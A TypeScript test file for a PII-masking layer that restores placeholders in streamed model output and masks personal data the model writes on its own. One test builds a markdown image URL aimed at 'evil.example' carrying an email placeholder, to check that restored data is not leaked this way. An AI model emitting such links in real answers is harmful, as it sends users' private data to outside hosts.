import { inspect } from "node:util";
import fc from "fast-check";
import { describe, expect, it } from "vitest";
import type { MaskingRules } from "../core/connection.ts";
import type { Segment } from "../core/segment.ts";
import { LANES_MAX } from "./back.ts";
import { CONTEXT, detectionOf, rules, segment, testScrubber } from "./test/setup.ts";

const JANE = "jane.doe@example.org";
const ORDER = "4711-2234";

async function backOf(
  request: string,
  changes: Partial<MaskingRules> = {},
  options: Parameters<typeof testScrubber>[0] = {},
) {
  return (await testScrubber(options).scrub([segment(request)], rules(changes), CONTEXT)).back;
}

const piece = (text: string, final = false, path = "choices.0", encoding: "text" | "json" = "text"): Segment => ({
  path,
  text,
  final,
  encoding,
});

async function inPieces(
  request: string,
  pieces: readonly string[],
  changes: Partial<MaskingRules>,
  encoding: "text" | "json" = "text",
) {
  const back = await backOf(request, changes);
  const out = pieces.map((text) => back.push(piece(text, false, "choices.0", encoding)).text);
  out.push(back.push(piece("", true, "choices.0", encoding)).text);
  return { text: out.join(""), counts: back.counts() };
}

describe("lanes", () => {
  it("F1 each path is a text of its own", async () => {
    const back = await backOf(JANE);
    const seen = [
      piece("to [EM", false, "a"),
      piece("[EMAIL", false, "b"),
      piece("AIL_1] x", false, "a"),
      piece("_1", true, "b"),
      piece("", true, "a"),
      piece("[EMAIL_1]", true, "b"),
    ].map((one) => back.push(one).text);
    expect(seen).toEqual(["to ", "", `${JANE} x`, "[EMAIL_1", "", JANE]);
  });

  it("F3 text that holds nothing back passes as the same object", async () => {
    const back = await backOf(JANE);
    for (const text of ["Hello", " world", "", " and so on"]) {
      const one = piece(text);
      expect(back.push(one)).toBe(one);
    }
  });

  it("are bounded", async () => {
    const back = await backOf(JANE);
    for (let index = 0; index < LANES_MAX; index++) back.push(piece("x", false, `p.${index}`));
    expect(() => back.push(piece("x", false, "one more"))).toThrow(
      expect.objectContaining({ code: "upstream_protocol" }),
    );
    expect(back.push(piece("[EMAIL_1]", true, "p.0")).text).toBe(JANE);
    back.push(piece("x", false, "one more"));
  });

  it("F6 tool arguments are restored as JSON, for every cut", async () => {
    const request = `mail ${JANE}, order number ${ORDER}`;
    const source = '{"to":"[EMAIL_1]","note":"\\u005bORDER_NUMBER_1\\u005d\\n\\"x\\""}';
    for (let at = 0; at <= source.length; at++) {
      const { text } = await inPieces(request, [source.slice(0, at), source.slice(at)], {}, "json");
      expect(JSON.parse(text)).toEqual({ to: JANE, note: `${ORDER}\n"x"` });
    }
  });
});

describe("F13 masking what the model wrote by itself", () => {
  const response = {
    response: { EMAIL: "redact", financial: "mask", IP_ADDRESS: "placeholder", PHONE: "drop" },
  } as const;

  it("masks findings, restores placeholders, and never masks a restored value", async () => {
    const back = await backOf(`I am ${JANE}`, response);
    const { text } = back.push(
      piece("[EMAIL_1] x@example.com, 4111 1111 1111 1111, 192.0.2.17; +49 170 1234567; order number 99-1234", true),
    );
    expect(text).toBe(`${JANE} [EMAIL], **** **** **** 1111, [IP_ADDRESS]; ; order number 99-1234`);
    expect(back.counts()).toEqual({
      restored: { EMAIL: 1 },
      masked: { EMAIL: 1, CARD: 1, IP_ADDRESS: 1, PHONE: 1 },
      withheld: {},
      unknownPlaceholders: 0,
    });
  });

  it("F4 masks although nothing was issued", async () => {
    const back = await backOf("nothing", response);
    expect(back.idle).toBe(false);
    expect(back.push(piece("x@example.com", true)).text).toBe("[EMAIL]");
  });

  it("F4 gives the same for a stream as for the whole, whatever the cut", async () => {
    const word = fc.constantFrom(
      "[EMAIL_1]",
      "EMAIL_1",
      "x@example.com",
      "4111 1111 1111 1111",
      "192.0.2.17",
      "\\[EMAIL\\_1\\]",
      "https://e.example/?[EMAIL_1]",
      " ",
      "a",
      "\n",
      '"',
      "[ORDER_NUMBER_1]",
      "EMAIL_1@example.com",
      "order number 99-1234",
      "\\u0078@example.com",
    );
    await fc.assert(
      fc.asyncProperty(
        fc.array(word, { maxLength: 10 }),
        fc.array(fc.nat(150), { maxLength: 10 }),
        fc.constantFrom<"text" | "json">("text", "json"),
        async (words, offsets, encoding) => {
          const joined = words.join(" ");
          const whole = encoding === "json" ? JSON.stringify({ a: [joined], [`k ${joined}`]: 1 }) : joined;
          const cuts = [
            0,
            ...offsets.map((offset) => Math.min(offset, whole.length)).sort((a, b) => a - b),
            whole.length,
          ];
          const pieces = cuts.slice(1).map((to, index) => whole.slice(cuts[index], to));
          const request = `${JANE}, order number ${ORDER}`;
          const changes = {
            response: { EMAIL: "redact", financial: "mask", IP_ADDRESS: "placeholder", URL: "redact" },
          } as const;
          const expected = await inPieces(request, [whole], changes, encoding);
          expect(await inPieces(request, pieces, changes, encoding)).toEqual(expected);
          expect(await inPieces(request, whole.split(""), changes, encoding)).toEqual(expected);
          if (encoding === "json") expect(() => JSON.parse(expected.text) as unknown).not.toThrow();
        },
      ),
      { numRuns: 150 },
    );
  });

  it("ends the answer at a type that is blocked", async () => {
    const back = await backOf("hello", { response: { financial: "block" } });
    expect(() => back.push(piece("your card 4111 1111 1111 1111 is", true))).toThrow(
      expect.objectContaining({ code: "category_blocked" }),
    );
  });

  it("F11 ends the answer when the detector fails, without a word of it", async () => {
    let fail = false;
    const detection = detectionOf((text) => {
      if (fail) throw new Error(text);
      return [];
    });
    const back = await backOf("hello", response, { detection: () => detection });
    fail = true;
    let error: unknown;
    try {
      back.push(piece("x@example.com"));
    } catch (thrown) {
      error = thrown;
    }
    expect(error).toMatchObject({ code: "detector_failed" });
    expect(inspect(error, { depth: 9, showHidden: true })).not.toContain("x@example");
  });
});

describe("F18 restored text does not leave by a URL", () => {
  it("in an image that the client would fetch, streamed", async () => {
    const { text, counts } = await inPieces(
      JANE,
      ["![x](https://ev", "il.example/?q=[EM", "AIL_1]) for [EMAIL", "_1]"],
      {},
    );
    expect(text).toBe(`![x](https://evil.example/?q=[EMAIL_1]) for ${JANE}`);
    expect(counts).toMatchObject({ restored: { EMAIL: 1 }, withheld: { EMAIL: 1 } });
  });
});

describe("F17 F24", () => {
  it("a cut reply guesses nobody, and a restored value is not restored again", async () => {
    const back = await backOf(`[EMAIL_1] ${JANE}`);
    expect(back.push(piece("[LITERAL_1] and [EMAIL_1]: [EMAIL_", true)).text).toBe(`[EMAIL_1] and ${JANE}: [EMAIL_`);
  });
});

describe("release", () => {
  it("F16 forgets the values, keeps the counts, refuses more text", async () => {
    const back = await backOf(JANE);
    back.push(piece("[EMAIL_1] [EMAIL_9] [EM"));
    const counts = back.counts();
    expect(counts).toEqual({ restored: { EMAIL: 1 }, masked: {}, withheld: {}, unknownPlaceholders: 1 });
    back.release();
    back.release();
    expect(back.counts()).toEqual(counts);
    expect(() => back.push(piece("AIL_1]"))).toThrow("released");
    expect(inspect(back, { depth: 9, showHidden: true })).not.toContain(JANE);
  });

  it("is idle when there is nothing to restore and nothing to mask", async () => {
    const back = await backOf("nothing");
    expect(back.idle).toBe(true);
    const one = piece("[EMAIL_1]");
    expect(back.push(one)).toBe(one);
    expect((await backOf(JANE, { default: "redact" })).idle).toBe(true);
    expect((await backOf("nothing", { response: { EMAIL: "allow" } })).idle).toBe(true);
    expect((await backOf(JANE)).idle).toBe(false);
  });
});
